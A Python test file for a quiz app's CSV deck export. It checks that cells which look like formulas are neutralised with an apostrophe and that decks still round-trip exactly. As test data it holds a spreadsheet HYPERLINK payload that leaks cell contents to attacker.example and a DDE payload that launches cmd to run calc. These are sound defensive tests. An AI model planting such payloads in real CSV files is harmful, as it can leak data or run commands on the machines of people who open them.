"""Our CSV never hands a spreadsheet a formula (CSV injection), and still round-trips exactly.

A cell that starts with `=`, `+`, `-`, `@` or a tab is written after an apostrophe, as is a cell
that starts with an apostrophe itself; import removes exactly one. "Opened by a spreadsheet" is
openpyxl here: it stores a string that starts with `=` as a formula, as Excel and LibreOffice
read such a CSV cell, and the test proves it would catch an unprotected cell.
"""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from pydantic import TypeAdapter, ValidationError
from strategies import cards as any_cards

from sahel_quiz.deck.model import Card, ChoiceCard, Deck, LoadedDeck, NumberCard, TypedCard
from sahel_quiz.interchange import deck_csv
from sahel_quiz.interchange.importing import DeckOptions, import_deck_file
from sahel_quiz.interchange.report import Report

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
STARTS = ["=", "+", "-", "@", "\t", "'", "''", "'=", "=-", "-1", "+1", "@@", ""]
_TEXT_FIELDS = ("prompt", "answer", "options", "accept", "unit", "explain")
_CARD = TypeAdapter(Card)
_HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the answer")'


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _export(cards: list[Card]) -> bytes:
    deck = Deck(id="formulas", title="Formulas", cards=cards)
    report = Report()
    data = deck_csv.export_deck(LoadedDeck(deck, Path("formulas.yaml")), report)
    assert report.skipped == []
    return data


def _import(data: bytes) -> list[Card]:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder)
        (path / "deck.csv").write_bytes(data)
        result = import_deck_file(
            path / "deck.csv", path / "deck.yaml", "csv", DeckOptions(deck_id="formulas")
        )
        return list(result.deck.cards)


def _is_plain_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return "e" not in cell.lower() and cell.strip() == cell


def _carriable(card: Card) -> bool:
    """What any CSV cell can hold (the round-trip property's own filter): no control
    characters but tabs, no line break inside a list item, a visible character in the prompt."""
    texts: list[str] = []
    for value in card.model_dump().values():
        if isinstance(value, str):
            texts.append(value)
        elif isinstance(value, list):
            items = [item for item in value if isinstance(item, str)]
            if any("\n" in item for item in items):
                return False
            texts += items
    return bool(card.prompt.strip()) and not any(
        (ord(ch) < 32 and ch not in "\t\n") or 0x7F <= ord(ch) <= 0x9F or ch in "\r\ufffe\uffff"
        for text in texts
        for ch in text
    )


@st.composite
def formula_looking_cards(draw: st.DrawFn) -> Card:
    """A card of any type whose texts all start with `start` (options and items alike, so that
    a choice's answer is still one of its options); a number card's answer may be negative."""
    card = draw(any_cards.filter(_carriable))
    start = draw(st.sampled_from(STARTS))
    data: dict[str, Any] = card.model_dump(exclude_defaults=True)
    data["type"] = card.type
    for key in _TEXT_FIELDS:
        value = data.get(key)
        if isinstance(value, str):
            data[key] = start + value
        elif isinstance(value, list) and all(isinstance(item, str) for item in value):
            data[key] = [start + item for item in value]
    try:
        return _CARD.validate_python(data)
    except ValidationError:
        assume(False)
        raise  # unreachable: assume(False) stops the example


@settings(
    max_examples=60,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
    deadline=None,
)
@given(st.lists(formula_looking_cards(), min_size=1, max_size=6, unique_by=lambda c: c.id))
def test_formula_looking_cells_are_inert_and_round_trip(cards: list[Card]) -> None:
    data = _export(cards)
    for row in _cells(data)[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _is_plain_number(cell), cell
    back = _import(data)
    assert back == cards
    assert _export(back) == data


def _as_a_spreadsheet_opens_it(rows: list[list[str]]) -> Any:
    """Every CSV cell put in a workbook as typed in (strings that start with `=` become
    formulas), saved as .xlsx and opened again."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue())).active


def _attack_cards() -> list[Card]:
    return [
        TypedCard(type="typed", id="link", prompt=_HYPERLINK, answer="=1+1", explain="@SUM(1,1)"),
        ChoiceCard(
            type="choice",
            id="dde",
            prompt="'tis a question",
            options=["-2+3+cmd|' /C calc'!A0", "+A1", "plain"],
            answer="plain",
        ),
        NumberCard(type="number", id="cold", prompt="How cold?", answer=-2.5, unit="°C"),
    ]


def test_a_formula_in_a_prompt_is_text_when_a_spreadsheet_opens_the_file() -> None:
    data = _export(_attack_cards())
    rows = {row[0]: dict(zip(_cells(data)[0], row, strict=True)) for row in _cells(data)[1:]}
    assert rows["link"]["prompt"] == "'" + _HYPERLINK
    assert rows["link"]["answer"] == "'=1+1"
    assert rows["link"]["explain"] == "'@SUM(1,1)"
    assert rows["dde"]["prompt"] == "''tis a question"  # the real apostrophe survives
    assert rows["dde"]["options"] == "'-2+3+cmd|' /C calc'!A0\n+A1\nplain"
    assert rows["cold"]["answer"] == "-2.5"  # a plain number stays a number

    sheet = _as_a_spreadsheet_opens_it(_cells(data))
    formulas = [
        cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert formulas == []
    prompts = [row[2].value for row in sheet.iter_rows(min_row=2)]
    assert prompts[0] == "'" + _HYPERLINK
    assert _import(data) == _attack_cards()


def test_the_spreadsheet_check_would_see_an_unprotected_formula() -> None:
    """The check above is not vacuous: the same cells without the apostrophe are formulas."""
    rows = [[deck_csv.unprotect(cell) for cell in row] for row in _cells(_export(_attack_cards()))]
    sheet = _as_a_spreadsheet_opens_it(rows)
    assert [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


@pytest.mark.parametrize(
    ("cell", "text"),
    [("'=1+1", "=1+1"), ("''tis", "'tis"), ("'plain", "plain"), ("'", ""), ("=raw", "=raw")],
)
def test_import_removes_exactly_one_leading_apostrophe(cell: str, text: str) -> None:
    assert deck_csv.unprotect(cell) == text
    if text and not text.startswith((*FORMULA_STARTS, "'")):
        assert deck_csv.protect(text) == text
    else:
        assert deck_csv.unprotect(deck_csv.protect(text)) == text


def test_a_hand_written_csv_with_apostrophes_imports_as_documented() -> None:
    data = (
        b"type,prompt,answer\r\n"
        b"typed,'=1+1 is?,'2\r\n"
        b"typed,''tis the season?,yes\r\n"
        b"typed,=SUM(1),'-x\r\n"
    )
    cards = _import(data)
    assert [(card.prompt, getattr(card, "answer", None)) for card in cards] == [
        ("=1+1 is?", "2"),
        ("'tis the season?", "yes"),
        ("=SUM(1)", "-x"),
    ]
